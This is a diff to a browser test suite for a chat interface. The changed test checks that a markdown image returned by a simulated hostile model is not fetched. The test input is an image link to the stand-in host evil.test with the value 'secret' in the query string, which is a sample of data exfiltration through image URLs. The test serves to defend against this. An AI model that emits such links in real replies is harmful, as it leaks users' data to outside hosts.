@@ -119,12 +119,14 @@ test('a thought, a failure and a tool of a hostile model run nowhere', async ({ 
   expect(seen).toEqual([]);
 });
 
-test('a remote picture is only a link that names its host', async ({ page, chat }) => {
+test('a remote picture is not fetched, and its place names its host', async ({ page, chat }) => {
   const seen = await watch(page);
   await chat.open();
   await chat.send('Picture\n/script rate=0 text="![a cat](https://evil.test/cat.png?q=secret)"');
   await chat.hasState('completed');
-  await expect(chat.reply.getByRole('link', { name: 'Open the image “a cat” from evil.test' })).toBeVisible();
+  await expect(
+    chat.reply.getByRole('button', { name: 'Show the image “a cat” from evil.test' }),
+  ).toBeVisible();
   await atRest(page);
   expect(seen).toEqual([]);
 });
